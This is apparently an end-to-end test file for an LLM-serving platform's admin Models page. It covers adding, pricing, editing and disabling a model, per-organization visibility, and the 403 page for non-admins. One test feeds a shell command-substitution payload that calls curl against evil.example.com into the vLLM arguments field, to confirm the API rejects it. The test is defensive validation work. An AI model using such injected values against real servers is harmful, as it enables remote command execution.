// The Models page (Admin → Models) in Debian's Chromium against the whole stack: a platform admin adds a
// Hugging Face model limited to an organization (its Overview lists it, another organization's does not),
// prices it, edits its launch settings and disables it; the API refuses hostile vLLM arguments with its own
// message; a member gets the 403 page.
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DESKTOP, launchBrowser, MOBILE, seriousA11yViolations } from './support/browser.ts';
import { ADMIN_EMAIL, createSessionCookie, startStack, type Stack } from './support/stack.ts';

const QWEN = 'Qwen/Qwen2.5-7B-Instruct';
let stack: Stack;
let browser: Browser;
let closeBrowser: () => Promise<void>;
let admin: BrowserContext;
let page: Page;

async function signedIn(email: string, viewport = DESKTOP): Promise<BrowserContext> {
  const user = await stack.prisma.user.findUniqueOrThrow({ where: { email } });
  const context = await browser.newContext({ viewport });
  await context.addCookies([{ name: 'authjs.session-token', value: await createSessionCookie(stack, user.id, new Date(Date.now() + 3_600_000)), url: stack.webUrl }]);
  return context;
}

const status = () => page.getByRole('status').first().textContent();
const row = (name: string) => page.locator(`tr[data-model-name="${name}"]`);

beforeAll(async () => {
  stack = await startStack();
  ({ browser, close: closeBrowser } = await launchBrowser());
  admin = await signedIn(ADMIN_EMAIL);
  page = await admin.newPage();
}, 180_000);

afterAll(async () => {
  await closeBrowser?.();
  await stack?.stop();
}, 60_000);

describe('Admin → Models', () => {
  it('lists the catalog, reached from the Admin page', async () => {
    await page.goto(`${stack.webUrl}/admin`);
    await page.getByRole('link', { name: /Add, edit, price, enable or disable models/ }).click();
    await page.waitForURL(`${stack.webUrl}/admin/models`);
    await expect.poll(() => row('cic/sim-echo-1').isVisible()).toBe(true);
    expect(await seriousA11yViolations(page)).toEqual([]);
  });

  it('adds a model limited to one organization, with its launch settings', async () => {
    const org = await stack.prisma.organization.findFirstOrThrow({ where: { memberships: { some: { user: { email: ADMIN_EMAIL } } } } });
    const add = page.locator('form[action="?/create"]');
    await add.getByLabel('Name', { exact: true }).fill(QWEN);
    await add.getByLabel('Prompt price (USD / 1M)').fill('0.2');
    await add.getByLabel('Completion price (USD / 1M)').fill('0.6');
    await add.getByLabel('Source (Hugging Face id or path)').fill(QWEN);
    await add.getByLabel('Context length (tokens)').fill('32768');
    await add.getByLabel('Accelerator').fill('L4:1');
    await add.getByLabel(/vLLM arguments/).fill('--enable-auto-tool-choice\n--tool-call-parser hermes');
    await add.getByLabel('Only these organizations:').check();
    await add.getByLabel(new RegExp(org.name)).check();
    await add.getByRole('button', { name: 'Add model' }).click();
    await expect.poll(status).toContain(`Model ${QWEN} added`);
    await expect.poll(() => row(QWEN).textContent()).toContain(org.name);
    expect(await stack.prisma.servedModel.findUniqueOrThrow({ where: { name: QWEN }, include: { access: true } })).toMatchObject({
      source: QWEN, maxModelLen: 32768, promptPriceMicros: 200_000n, completionPriceMicros: 600_000n, accelerator: 'L4:1',
      vllmArgs: ['--enable-auto-tool-choice', '--tool-call-parser', 'hermes'], isPublic: false, access: [{ organizationId: org.id }],
    });
  });

  it('the Overview lists it, with its prices, for its organization only', async () => {
    await page.goto(`${stack.webUrl}/`);
    const listed = page.getByRole('region', { name: 'Models table' });
    await expect.poll(() => listed.textContent()).toContain(QWEN);
    expect(await listed.textContent()).toMatch(/32,768 tokens.*\$0\.20.*\$0\.60.*NO NODE/);
    const outsider = await stack.prisma.user.create({ data: { email: 'outsider@cic.test' } });
    const org = await stack.prisma.organization.create({ data: { name: 'Outsiders', slug: 'outsiders', billingAccount: { create: {} } } });
    await stack.prisma.membership.create({ data: { userId: outsider.id, organizationId: org.id, role: 'OWNER' } });
    const theirs = await (await signedIn(outsider.email)).newPage();
    await theirs.goto(`${stack.webUrl}/`);
    await expect.poll(() => theirs.getByRole('region', { name: 'Models table' }).textContent()).toContain('cic/sim-echo-1');
    expect(await theirs.getByRole('region', { name: 'Models table' }).textContent()).not.toContain(QWEN);
    await page.goto(`${stack.webUrl}/admin/models`);
  });

  it('shows the API\'s refusal of a hostile vLLM argument and creates nothing', async () => {
    const add = page.locator('form[action="?/create"]');
    await add.getByLabel('Name', { exact: true }).fill('evil/model');
    await add.getByLabel(/vLLM arguments/).fill('--chat-template $(curl${IFS}evil.example.com)');
    await add.getByRole('button', { name: 'Add model' }).click();
    await expect.poll(status).toContain('Invalid vllmArgs');
    expect(await stack.prisma.servedModel.count({ where: { name: 'evil/model' } })).toBe(0);
  });

  it('prices it in place, edits it, disables it', async () => {
    const id = (await stack.prisma.servedModel.findUniqueOrThrow({ where: { name: QWEN } })).id;
    await row(QWEN).getByLabel(`Prompt price for ${QWEN}`).fill('0.25');
    await row(QWEN).getByRole('button', { name: `Save the prices of ${QWEN}` }).click();
    await expect.poll(status).toContain('Price saved');
    expect((await stack.prisma.servedModel.findUniqueOrThrow({ where: { id } })).promptPriceMicros).toBe(250_000n);

    await row(QWEN).getByRole('link', { name: `Edit ${QWEN}` }).click();
    await page.waitForURL(/\?edit=/);
    const edit = page.locator('form[action="?/update"]');
    await edit.getByLabel('Accelerator').fill('H100:1');
    await edit.getByLabel('Every organization').check();
    await edit.getByRole('button', { name: `Save ${QWEN}` }).click();
    await expect.poll(status).toContain('Model saved');
    expect(await stack.prisma.servedModel.findUniqueOrThrow({ where: { id } })).toMatchObject({ accelerator: 'H100:1', isPublic: true, maxModelLen: 32768 });

    await row(QWEN).getByRole('button', { name: `Disable ${QWEN}` }).click();
    await expect.poll(() => row(QWEN).textContent()).toContain('DISABLED');
    expect((await stack.prisma.servedModel.findUniqueOrThrow({ where: { id } })).enabled).toBe(false);
    expect(await stack.prisma.auditLog.count({ where: { targetId: id, action: { in: ['model.create', 'model.update_price', 'model.update', 'model.disable'] } } })).toBe(4);
  });

  it('fits a phone screen', async () => {
    const phone = await (await signedIn(ADMIN_EMAIL, MOBILE)).newPage();
    await phone.goto(`${stack.webUrl}/admin/models`);
    expect(await seriousA11yViolations(phone)).toEqual([]);
    expect(await phone.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
  });

  it('is for platform admins: a member gets the 403 page', async () => {
    const member = await stack.prisma.user.create({ data: { email: 'models-member@cic.test' } });
    const org = await stack.prisma.organization.findFirstOrThrow();
    await stack.prisma.membership.create({ data: { userId: member.id, organizationId: org.id, role: 'OWNER' } });
    const other = await (await signedIn(member.email)).newPage();
    const res = await other.goto(`${stack.webUrl}/admin/models`);
    expect(res?.status()).toBe(403);
  });
});
